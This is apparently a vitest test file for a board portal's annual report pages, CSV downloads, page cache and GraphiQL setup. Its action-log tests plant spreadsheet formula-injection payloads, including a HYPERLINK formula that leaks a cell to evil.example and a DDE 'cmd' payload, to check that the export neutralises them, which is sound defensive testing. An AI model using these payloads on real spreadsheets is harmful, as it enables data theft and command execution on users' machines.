/**
 * Issue 13 items 2-5: the portal, the annual report page and the CSV downloads. The page's
 * figures are the API's `annualReport` for the same period and role (read back from the
 * page's `data-figure` marks and from the CSV); the CSVs are UTF-8 with a BOM and no cell a
 * spreadsheet would run; pages are kept per snapshot, role and day and never when stale;
 * GraphiQL's files come from this server and its example queries all run.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { RawCell, WorkbookGrids } from '../schema/grid';
import { annualSeries } from '../schema/reports/annual-series';
import { buildSnapshot } from '../schema/snapshot';
import { tokenTable } from '../server/auth';
import { compactQuery, EXAMPLE_QUERIES } from '../server/pages/example-queries';
import { GRAPHIQL_ASSETS_PATH, graphiqlAssets } from '../server/pages/graphiql';
import { PageCache } from '../server/pages/page-cache';
import { csvDocument, csvField } from '../server/reports/csv';
import type { CachedSnapshot } from '../server/snapshot-cache';
import { DEMO_WORKBOOK_PATH, localWorkbookSource } from '../server/sources/local-workbook';
import { createBoardYoga } from '../server/yoga';
import {
  DEMO_NOW,
  gridsSource,
  OFFICER_TOKEN,
  PARTNER_TOKEN,
  readOnceStatus,
  testServer,
} from './support/board-server';
import { BASE, figuresOf, open, parseCsv } from './support/portal';

const TODAY = '2026-11-22';
const demoGrids = await localWorkbookSource(DEMO_WORKBOOK_PATH).readGrids();
const demoSnapshot = buildSnapshot(demoGrids);

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

interface Report {
  from: string;
  to: string;
  meetingsHeld: number;
  meetingsCancelled: number;
  attendanceByConstituency: {
    constituency: string;
    present: number | null;
    apologies: number | null;
    absent: number | null;
  }[];
  projectsByStage: { stage: string; count: number }[];
  projectsByPhase: { phase: string; count: number }[];
  actionsRaised: number;
  actionsDone: number;
  actionsOverdue: number;
  activities: { activity: string; count: number }[];
}

async function apiReport(
  server: ReturnType<typeof testServer>,
  token: string,
  from: string,
  to: string,
): Promise<Report> {
  const { body } = await server.query(
    token,
    `query ($from: Date!, $to: Date!) { annualReport(from: $from, to: $to) {
      from to meetingsHeld meetingsCancelled
      attendanceByConstituency { constituency present apologies absent }
      projectsByStage { stage count } projectsByPhase { phase count }
      actionsRaised actionsDone actionsOverdue activities { activity count } } }`,
    { from, to },
  );
  expect(body.errors).toBeUndefined();
  return (body.data as { annualReport: Report }).annualReport;
}

/** The figures the page must show for a report, by the names the page marks them with. */
function expectedFigures(report: Report): Map<string, string> {
  const shown = (value: number | null) => (value === null ? 'not shown' : String(value));
  const figures = new Map<string, string>([
    ['meetingsHeld', String(report.meetingsHeld)],
    ['meetingsCancelled', String(report.meetingsCancelled)],
    ['actionsRaised', String(report.actionsRaised)],
    ['actionsDone', String(report.actionsDone)],
    ['actionsOverdue', String(report.actionsOverdue)],
    ['projects', String(report.projectsByStage.reduce((sum, row) => sum + row.count, 0))],
  ]);
  for (const row of report.attendanceByConstituency) {
    for (const key of ['present', 'apologies', 'absent'] as const) {
      figures.set(`attendance.${row.constituency}.${key}`, shown(row[key]));
    }
  }
  for (const row of report.projectsByStage) figures.set(`stage.${row.stage}`, String(row.count));
  for (const row of report.projectsByPhase) figures.set(`phase.${row.phase}`, String(row.count));
  for (const row of report.activities) figures.set(`activity.${row.activity}`, String(row.count));
  return figures;
}

const PERIODS: [string, string][] = [
  ['2025-11-23', '2026-11-22'],
  ['2023-11-22', '2026-11-22'],
  ['2026-10-28', '2026-10-28'],
  ['2024-01-01', '2024-12-31'],
];

describe('the annual report page', () => {
  const server = testServer();

  for (const [role, token] of [
    ['a partner', PARTNER_TOKEN],
    ['an officer', OFFICER_TOKEN],
  ] as const) {
    it(`shows ${role} the figures annualReport gives them, for the same period`, async () => {
      for (const [from, to] of PERIODS) {
        const response = await open(
          server.yoga,
          `/reports/annual.html?from=${from}&to=${to}`,
          null,
          bearer(token),
        );
        expect(response.status).toBe(200);
        const figures = figuresOf(await response.text());
        const report = await apiReport(server, token, from, to);
        for (const [name, value] of expectedFigures(report)) {
          expect(figures.get(name), `${from} to ${to}: ${name}`).toBe(value);
        }
        // Month by month, from the same rule, ending on the report's totals.
        const series = annualSeries(demoSnapshot, from, to, TODAY);
        for (const month of series.meetingsByMonth) {
          expect(figures.get(`meetings.${month.month}`)).toBe(String(month.held));
        }
        const last = series.actionsToDate.at(-1);
        expect(figures.get(`actions.${to}.raised`)).toBe(String(report.actionsRaised));
        expect(figures.get(`actions.${to}.done`)).toBe(String(report.actionsDone));
        expect(figures.get(`actions.${to}.overdue`)).toBe(String(report.actionsOverdue));
        expect(last?.date).toBe(to);
      }
    });
  }

  it('is the last 12 months when no period is given', async () => {
    const page = await (
      await open(server.yoga, '/reports/annual.html', null, bearer(PARTNER_TOKEN))
    ).text();
    expect(page).toContain('<h1>Annual report: 23 November 2025 to 22 November 2026</h1>');
  });

  it('has a chart with a text alternative and a table beside it for every part', async () => {
    const page = await (
      await open(server.yoga, '/reports/annual.html', null, bearer(PARTNER_TOKEN))
    ).text();
    const charts = [
      ...page.matchAll(/<svg class="chart" role="img" aria-labelledby="([\w-]+)-title \1-desc"/g),
    ];
    expect(charts.map(([, id]) => id)).toEqual([
      'meetings-chart',
      'attendance-chart',
      'stage-chart',
      'phase-chart',
      'actions-chart',
      'activities-chart',
      'involvement-chart',
    ]);
    expect(page.match(/<div class="pair[^"]*">\n<figure>/g)).toHaveLength(7);
    expect(page.match(/<caption>/g)?.length).toBeGreaterThanOrEqual(7);
    // No script of any kind; the policy allows none either.
    expect(page).not.toMatch(/<script/i);
    expect(page).toContain('&quot;Not shown&quot; stands for a figure');
  });

  it('has an easy-read version, in short sentences with the same figures', async () => {
    const response = await open(
      server.yoga,
      '/reports/annual.html?from=2025-11-23&to=2026-11-22&easyRead=1',
      null,
      bearer(PARTNER_TOKEN),
    );
    const page = await response.text();
    const report = await apiReport(server, PARTNER_TOKEN, '2025-11-23', '2026-11-22');
    expect(page).toContain('<body class="easy-read">');
    expect(page).toContain(`<p>We had ${report.meetingsHeld} board meetings.</p>`);
    expect(page).toContain(
      `<p>At our meetings we agreed to do ${report.actionsRaised} things.</p>`,
    );
    expect(page).toContain(`<p>${report.actionsDone} of them are done.</p>`);
    expect(page).toContain('We do not say how many times');
    expect(page).toContain('href="/reports/annual.html?from=2025-11-23&amp;to=2026-11-22"');
  });

  it('explains a period it cannot show, with the form to try again', async () => {
    for (const [query, message] of [
      ['from=2026-13-01&to=2026-12-31', 'is not a date'],
      ['from=2026-06-01', 'end date as well'],
      ['from=2026-06-01&to=2026-01-01', 'after it ends'],
      ['from=2000-01-01&to=2026-01-01', 'at most 10 years'],
    ] as const) {
      const response = await open(
        server.yoga,
        `/reports/annual.html?${query}`,
        null,
        bearer(PARTNER_TOKEN),
      );
      expect(response.status, query).toBe(400);
      const page = await response.text();
      expect(page).toContain(message);
      expect(page).toContain('<form class="period" method="get" action="/reports/annual.html">');
    }
    const csv = await open(
      server.yoga,
      '/reports/annual.csv?from=x&to=y',
      null,
      bearer(PARTNER_TOKEN),
    );
    expect(csv.status).toBe(400);
  });

  it('says when there is no such report', async () => {
    const response = await open(server.yoga, '/reports/monthly.html', null, bearer(PARTNER_TOKEN));
    expect(response.status).toBe(404);
    expect(await response.text()).toContain('/reports/annual.html');
  });

  it('is served with a policy that allows its style sheet and nothing else', async () => {
    const response = await open(server.yoga, '/reports/annual.html', null, bearer(PARTNER_TOKEN));
    const policy = response.headers.get('content-security-policy') ?? '';
    expect(policy).toMatch(
      /^default-src 'none'; style-src 'sha256-[\w+/=]+'; img-src 'self'; form-action 'self'/,
    );
    expect(policy).not.toContain('script-src');
    expect(response.headers.get('cache-control')).toBe('no-store');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
  });
});

describe('the portal', () => {
  const server = testServer();

  it('shows the board at a glance, the reports, the downloads and every held meeting’s packs', async () => {
    const response = await open(server.yoga, '/', null, bearer(PARTNER_TOKEN));
    expect(response.status).toBe(200);
    const page = await response.text();
    const { body } = await server.query(
      PARTNER_TOKEN,
      '{ board { activeMemberCount coChairs { name } balance { counts { constituency count } } } meetings(status: HELD) { id circulateToDmt } }',
    );
    const data = body.data as {
      board: {
        activeMemberCount: number | null;
        coChairs: { name: string }[];
        balance: { counts: { constituency: string; count: number | null }[] };
      };
      meetings: { id: string; circulateToDmt: boolean }[];
    };
    const figures = figuresOf(page);
    expect(figures.get('activeMemberCount')).toBe(
      String(data.board.activeMemberCount ?? 'not shown'),
    );
    for (const row of data.board.balance.counts) {
      expect(figures.get(`balance.${row.constituency}`)).toBe(
        row.count === null ? 'not shown' : String(row.count),
      );
    }
    for (const chair of data.board.coChairs) expect(page).toContain(chair.name);
    for (const meeting of data.meetings) {
      expect(page).toContain(`href="/packs/${meeting.id}/BOROUGH_PARTNERSHIP.html"`);
      expect(page).toContain(`href="/packs/${meeting.id}/SENIOR_HEAD.txt"`);
      expect(page).toContain(`href="/packs/${meeting.id}/SENIOR_HEAD.html?easyRead=1"`);
      expect(page.includes(`href="/packs/${meeting.id}/DMT.html"`)).toBe(meeting.circulateToDmt);
    }
    expect(page).toContain('href="/reports/annual.html?from=2025-11-23&amp;to=2026-11-22"');
    expect(page).toContain('href="/reports/annual.csv?from=2025-11-23&amp;to=2026-11-22"');
    expect(page).toContain('href="/reports/actions.csv"');
    expect(page).toContain('<form class="period" method="get" action="/reports/annual.html">');
    // Off the demo board, partners have no GraphiQL to be sent to.
    expect(page).not.toContain('href="/graphql"');
  });

  it('links officers to GraphiQL', async () => {
    const page = await (await open(server.yoga, '/', null, bearer(OFFICER_TOKEN))).text();
    expect(page).toContain('<a href="/graphql">Open GraphiQL</a>');
  });
});

describe('the annual report download', () => {
  const server = testServer();

  it('is UTF-8 with a BOM, CRLF lines, and the figures annualReport gives the asker', async () => {
    for (const token of [PARTNER_TOKEN, OFFICER_TOKEN]) {
      const response = await open(
        server.yoga,
        '/reports/annual.csv?from=2025-11-23&to=2026-11-22',
        null,
        bearer(token),
      );
      expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(response.headers.get('content-disposition')).toBe(
        'attachment; filename="annual-report-2025-11-23-to-2026-11-22.csv"',
      );
      const bytes = new Uint8Array(await response.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder().decode(bytes);
      expect(text).toMatch(/\r\n$/);
      expect(text.replace(/\r\n/g, '')).not.toContain('\n');
      const rows = parseCsv(text);
      expect(rows[0]).toEqual(['Section', 'Item', 'Measure', 'Value', 'Note']);
      const value = (section: string, item: string, measure: string) =>
        rows.find((row) => row[0] === section && row[1] === item && row[2] === measure);
      const report = await apiReport(server, token, '2025-11-23', '2026-11-22');
      expect(value('Meetings', 'Held', 'Meetings')?.[3]).toBe(String(report.meetingsHeld));
      expect(value('Actions', 'Raised', 'Actions')?.[3]).toBe(String(report.actionsRaised));
      expect(value('Actions', 'Overdue', 'Actions')?.[3]).toBe(String(report.actionsOverdue));
      const names: Record<string, string> = {
        RESIDENT: 'Resident',
        PROVIDER: 'Provider',
        STAFF: 'Staff',
        COUNCIL: 'Council',
        OTHER: 'Other',
      };
      for (const row of report.attendanceByConstituency) {
        const present = value(
          'Attendance by constituency',
          names[row.constituency] ?? '',
          'Present',
        );
        expect(present?.slice(3), `${token} ${row.constituency}`).toEqual(
          row.present === null ? ['', 'not shown'] : [String(row.present), ''],
        );
      }
      expect(value('Actions to date', '2026-11-22', 'Done')?.[3]).toBe(String(report.actionsDone));
    }
  });
});

describe('the action log download', () => {
  /** The demo board with descriptions a spreadsheet would run as formulas. */
  function hostileBoard(): WorkbookGrids {
    const actions = (demoGrids.Actions as RawCell[][]).map((row) => [...row]);
    const column = (actions[0] as RawCell[]).indexOf('Action');
    const planted = [
      '=HYPERLINK("http://evil.example/?"&A1,"Open")',
      '+1+2',
      '-2+3',
      '@SUM(1+1)',
      "=cmd|' /C calc'!A0",
      'Say "hello", then stop',
    ];
    planted.forEach((text, index) => {
      (actions[index + 1] as RawCell[])[column] = text;
    });
    return { ...demoGrids, Actions: actions };
  }

  it('lists every action the API lists for the filters, with owners as the asker may see them', async () => {
    const server = testServer();
    for (const [query, args] of [
      ['', ''],
      ['?status=OPEN,IN_PROGRESS', '(status: [OPEN, IN_PROGRESS], first: 1)'],
      ['?status=Done', '(status: [DONE], first: 1)'],
      ['?overdue=1', `(overdueOn: "${TODAY}", first: 1)`],
      ['?overdueOn=2025-06-30', '(overdueOn: "2025-06-30", first: 1)'],
      ['?projectId=PRJ-01', '(projectId: "PRJ-01", first: 1)'],
    ] as const) {
      const response = await open(
        server.yoga,
        `/reports/actions.csv${query}`,
        null,
        bearer(PARTNER_TOKEN),
      );
      expect(response.status, query).toBe(200);
      const rows = parseCsv(await response.text());
      expect(rows[0]?.[0]).toBe('Action ID');
      const { body } = await server.query(
        PARTNER_TOKEN,
        `{ actions${args || '(first: 1)'} { totalCount } }`,
      );
      const total = (body.data as { actions: { totalCount: number } }).actions.totalCount;
      expect(rows.length - 1, query).toBe(total);
    }
    const all = parseCsv(
      await (await open(server.yoga, '/reports/actions.csv', null, bearer(PARTNER_TOKEN))).text(),
    );
    expect(all.length - 1).toBe(demoSnapshot.actions.length);
    // Owners who have not agreed to be named read as their role, as in the API.
    const text = all.map((row) => row[5]).join('\n');
    expect(text).toMatch(/Member \(/);
    for (const member of demoSnapshot.members.filter((m) => !m.nameInCirculation)) {
      expect(text).not.toContain(member.name);
    }
  });

  it('refuses a status that does not exist, naming the ones that do', async () => {
    const server = testServer();
    const response = await open(
      server.yoga,
      '/reports/actions.csv?status=FINISHED',
      null,
      bearer(PARTNER_TOKEN),
    );
    expect(response.status).toBe(400);
    expect(await response.text()).toContain('OPEN, IN_PROGRESS, DONE, DROPPED');
  });

  it('makes text that a spreadsheet would run as a formula safe, and quotes what needs it', async () => {
    const server = testServer({ source: gridsSource(hostileBoard()) });
    const text = await (
      await open(server.yoga, '/reports/actions.csv', null, bearer(PARTNER_TOKEN))
    ).text();
    const descriptions = parseCsv(text)
      .slice(1, 7)
      .map((row) => row[4]);
    expect(descriptions).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Open")`,
      "'+1+2",
      "'-2+3",
      "'@SUM(1+1)",
      "'=cmd|' /C calc'!A0",
      'Say "hello", then stop',
    ]);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"")"`);
    // No line of the file starts a cell with a formula character.
    for (const row of parseCsv(text)) {
      for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('CSV fields', () => {
  it('quotes, neutralises formulas and writes numbers, booleans and blanks', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('-1')).toBe("'-1");
    expect(csvField('@x')).toBe("'@x");
    expect(csvField('+x')).toBe("'+x");
    expect(csvField('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvField(-1)).toBe('-1');
    expect(csvField(12)).toBe('12');
    expect(csvField(Number.NaN)).toBe('');
    expect(csvField(true)).toBe('Yes');
    expect(csvField(null)).toBe('');
    expect(csvField('Zoë’s café')).toBe('Zoë’s café');
    expect(csvDocument(['A', 'B'], [[1, 'x']])).toBe('\uFEFFA,B\r\n1,x\r\n');
  });
});

describe('keeping pages', () => {
  /** A server whose snapshot and staleness the test sets. */
  function controlled() {
    let current: CachedSnapshot = {
      snapshot: demoSnapshot,
      readAt: Date.parse('2026-11-22T11:59:00Z'),
      stale: null,
      version: 1,
    };
    const cache = {
      get: async () => current,
      status: readOnceStatus,
    };
    const pages = new PageCache();
    const yoga = createBoardYoga({
      cache,
      tokens: tokenTable([
        [OFFICER_TOKEN, 'OFFICER'],
        [PARTNER_TOKEN, 'PARTNER'],
      ]),
      demo: false,
      now: () => DEMO_NOW,
      pageCache: pages,
    });
    return {
      yoga,
      pages,
      set(next: Partial<CachedSnapshot>) {
        current = { ...current, ...next };
      },
    };
  }

  it('keeps each page per role, and answers it again with the same bytes', async () => {
    const { yoga, pages } = controlled();
    const first = await (
      await open(
        yoga,
        '/reports/annual.html?from=2025-11-23&to=2026-11-22',
        null,
        bearer(PARTNER_TOKEN),
      )
    ).text();
    expect(pages.size).toBe(1);
    // Extra or reordered parameters are the same page, not another entry.
    const again = await (
      await open(
        yoga,
        '/reports/annual.html?to=2026-11-22&from=2025-11-23&x=1',
        null,
        bearer(PARTNER_TOKEN),
      )
    ).text();
    expect(again).toBe(first);
    expect(pages.size).toBe(1);
    const officer = await (
      await open(
        yoga,
        '/reports/annual.html?from=2025-11-23&to=2026-11-22',
        null,
        bearer(OFFICER_TOKEN),
      )
    ).text();
    expect(officer).not.toBe(first);
    expect(pages.size).toBe(2);
    // A period that cannot be shown is answered, never kept.
    const refused = await open(
      yoga,
      '/reports/annual.html?from=2026-01-01&to=2025-01-01',
      null,
      bearer(PARTNER_TOKEN),
    );
    expect(refused.status).toBe(400);
    expect(pages.size).toBe(2);
  });

  it('answers a kept page gzipped to a browser that takes it, the same page unpacked', async () => {
    const { yoga } = controlled();
    const plain = await open(yoga, '/reports/annual.html', null, bearer(PARTNER_TOKEN));
    const text = await plain.text();
    expect(plain.headers.get('content-encoding')).toBeNull();
    const packed = await open(yoga, '/reports/annual.html', null, {
      ...bearer(PARTNER_TOKEN),
      'accept-encoding': 'gzip, deflate, br',
    });
    expect(packed.headers.get('content-encoding')).toBe('gzip');
    expect(packed.headers.get('vary')).toContain('Accept-Encoding');
    const bytes = new Uint8Array(await packed.arrayBuffer());
    expect(bytes.byteLength).toBeLessThan(text.length / 3);
    expect(gunzipSync(bytes).toString('utf8')).toBe(text);
    const refused = await open(yoga, '/reports/annual.html', null, {
      ...bearer(PARTNER_TOKEN),
      'accept-encoding': 'gzip;q=0, identity',
    });
    expect(refused.headers.get('content-encoding')).toBeNull();
  });

  it('drops every page when the board changes, and keeps none made from a stale board', async () => {
    const { yoga, pages, set } = controlled();
    await open(yoga, '/', null, bearer(PARTNER_TOKEN));
    expect(pages.size).toBe(1);
    set({ version: 2, stale: { ageSeconds: 600, reason: 'Google said 503' } });
    const page = await (await open(yoga, '/', null, bearer(PARTNER_TOKEN))).text();
    expect(page).toContain('could not be read just now, so this is as it was 10 minutes ago');
    // The reason can name a spreadsheet: not on a page.
    expect(page).not.toContain('503');
    expect(pages.size).toBe(0);
  });

  it('says plainly when the board cannot be read yet, with the reason for officers only', async () => {
    const failing = {
      get: async (): Promise<CachedSnapshot> => {
        throw new Error('Cannot read /secret/board.xlsx.');
      },
      status: () => ({
        ageSeconds: null,
        lastError: 'x',
        lastSuccessAt: null,
        reads: 0,
        refreshing: false,
      }),
    };
    const yoga = createBoardYoga({
      cache: failing,
      tokens: tokenTable([
        [OFFICER_TOKEN, 'OFFICER'],
        [PARTNER_TOKEN, 'PARTNER'],
      ]),
      demo: false,
    });
    const partner = await open(yoga, '/', null, bearer(PARTNER_TOKEN));
    expect(partner.status).toBe(503);
    expect(await partner.text()).not.toContain('secret');
    expect(await (await open(yoga, '/', null, bearer(OFFICER_TOKEN))).text()).toContain(
      '/secret/board.xlsx',
    );
  });
});

const README = readFileSync(join(import.meta.dirname, '..', 'README.md'), 'utf8');

describe('the README', () => {
  // Runs once the README has its "Reporting queries" section (issue 13).
  it.skipIf(!README.includes('## Reporting queries'))(
    'shows, as curl commands, exactly the queries GraphiQL opens with',
    () => {
      for (const example of EXAMPLE_QUERIES) {
        expect(README, example.name).toContain(JSON.stringify(compactQuery(example)));
      }
    },
  );
});

describe('GraphiQL without the internet', () => {
  it('loads its bundle, styles and workers from this server, kept for a year', async () => {
    const server = testServer();
    const page = await (await open(server.yoga, `/graphql?token=${OFFICER_TOKEN}`, null)).text();
    const { version, files } = await graphiqlAssets();
    const addresses = [...page.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, address]) => address);
    expect(
      addresses.every(
        (address) => address?.startsWith(`${GRAPHIQL_ASSETS_PATH}${version}/`) || address === '/',
      ),
    ).toBe(true);
    expect(page).not.toMatch(/https?:\/\//);
    for (const name of files.keys()) {
      const response = await server.yoga.fetch(`${BASE}${GRAPHIQL_ASSETS_PATH}${version}/${name}`);
      expect(response.status, name).toBe(200);
      expect(response.headers.get('cache-control')).toBe('public, max-age=31536000, immutable');
      expect((await response.arrayBuffer()).byteLength).toBeGreaterThan(100);
    }
    const stale = await server.yoga.fetch(`${BASE}${GRAPHIQL_ASSETS_PATH}0000/graphiql.js`);
    expect(stale.status).toBe(404);
  });

  it('opens with the example reporting queries, each of which runs for partners and officers', async () => {
    const server = testServer();
    const page = await (await open(server.yoga, `/graphql?token=${OFFICER_TOKEN}`, null)).text();
    const config = JSON.parse(
      /<script type="application\/json" id="graphiql-config">([^<]*)<\/script>/.exec(page)?.[1] ??
        '{}',
    ) as { options: { defaultTabs: { query: string; variables: string; headers: string }[] } };
    expect(config.options.defaultTabs.map((tab) => tab.query)).toEqual(
      EXAMPLE_QUERIES.map((example) => example.query),
    );
    for (const tab of config.options.defaultTabs) {
      expect(JSON.parse(tab.headers)).toEqual({ Authorization: `Bearer ${OFFICER_TOKEN}` });
    }
    for (const example of EXAMPLE_QUERIES) {
      for (const token of [PARTNER_TOKEN, OFFICER_TOKEN]) {
        const { status, body } = await server.query(token, example.query, example.variables(TODAY));
        expect(body.errors, `${example.name} ${token}`).toBeUndefined();
        expect(status).toBe(200);
      }
    }
  });
});
